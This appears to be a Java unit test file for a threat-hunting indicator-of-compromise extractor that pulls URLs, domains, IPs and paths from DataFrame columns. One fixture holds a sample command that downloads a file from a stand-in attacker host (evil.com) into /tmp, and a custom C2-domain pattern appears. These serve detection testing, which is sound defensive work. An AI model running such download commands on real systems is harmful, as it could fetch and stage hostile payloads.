package io.huntbook.analysis.ioc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.List;
import org.dflib.DataFrame;
import org.dflib.Series;
import org.junit.jupiter.api.Test;

class IocExtractor_TableModeTest {
    private static DataFrame events() {
        return DataFrame.byColumn("CommandLine", "Host", "Count").of(
                Series.of("curl http://evil.com/a -o /tmp/a && curl http://evil.com/a", "no indicators here",
                        "ping 10.0.0.1 C:\\Temp\\x.exe"),
                Series.of("ws1.contoso.com", null, "10.0.0.1"),
                Series.ofInt(1, 2, 3));
    }

    @Test
    void oneRowPerDistinctObservablePerCellWithItsRowAndInput() {
        DataFrame result = IocExtractor.builder().build().extract(events(), List.of("CommandLine", "Host"));
        assertThat(result.getColumnsIndex().toArray()).containsExactly("IoCType", "Observable", "SourceIndex", "Input");
        List<String> rows = new ArrayList<>();
        for (int r = 0; r < result.height(); r++) {
            rows.add(result.getColumn("IoCType").get(r) + " " + result.getColumn("Observable").get(r) + " "
                    + result.getColumn("SourceIndex").get(r));
        }
        // Paths are left out in table mode unless asked for (MSTICPy's default); the repeated URL is one row.
        assertThat(rows).containsExactly("url http://evil.com/a 0", "dns evil.com 0", "dns ws1.contoso.com 0",
                "ipv4 10.0.0.1 2", "ipv4 10.0.0.1 2");
        assertThat(result.getColumn("Input").get(0))
                .isEqualTo("curl http://evil.com/a -o /tmp/a && curl http://evil.com/a");
    }

    @Test
    void chosenTypesIncludePathsAndDefaultColumnsAreTheStringColumns() {
        DataFrame result = IocExtractor.builder().types("windows_path", "linux_path").build().extract(events());
        assertThat(result.getColumn("Observable").toList()).containsExactly("/tmp/a", "C:\\Temp\\x.exe");
    }

    @Test
    void missingColumnsAreNamed() {
        assertThatThrownBy(() -> IocExtractor.builder().build().extract(events(), List.of("Nope")))
                .hasMessageContaining("column \"Nope\" is not in the table")
                .hasMessageContaining("CommandLine, Host, Count");
    }

    @Test
    void parallelResultIsTheSequentialResultInRowOrder() {
        int rows = 5000;
        String[] lines = new String[rows];
        for (int i = 0; i < rows; i++) {
            lines[i] = "row " + i + " from 10.0." + (i % 256) + ".1 to host" + i + ".example.com";
        }
        DataFrame frame = DataFrame.byColumn("Line").of(Series.of(lines));
        DataFrame sequential = IocExtractor.builder().parallelism(1).build().extract(frame, List.of("Line"));
        DataFrame parallel = IocExtractor.builder().parallelism(4).build().extract(frame, List.of("Line"));
        assertThat(parallel.height()).isEqualTo(2 * rows);
        assertThat(parallel.getColumn("Observable").toList()).isEqualTo(sequential.getColumn("Observable").toList());
        assertThat(parallel.getColumn("SourceIndex").toList()).isEqualTo(sequential.getColumn("SourceIndex").toList());
        assertThat(parallel.getColumn("SourceIndex").get(2 * rows - 1)).isEqualTo(rows - 1);
    }

    @Test
    void aSubstringMatchedByACustomTypeGoesToTheLowerPriorityNumber() {
        IocExtractor iocs = IocExtractor.builder()
                .addType("c2_domain", "evil\\.com", 1)   // beats dns (2)
                .addType("any_ip", "\\d+\\.\\d+\\.\\d+\\.\\d+", 5) // loses to ipv4 (0)
                .build();
        var found = iocs.extract("evil.com good.com 10.0.0.1");
        assertThat(found.get("c2_domain")).containsExactly("evil.com");
        assertThat(found.get("dns")).containsExactly("good.com");
        assertThat(found.get("ipv4")).containsExactly("10.0.0.1");
        assertThat(found).doesNotContainKey("any_ip");
    }
}
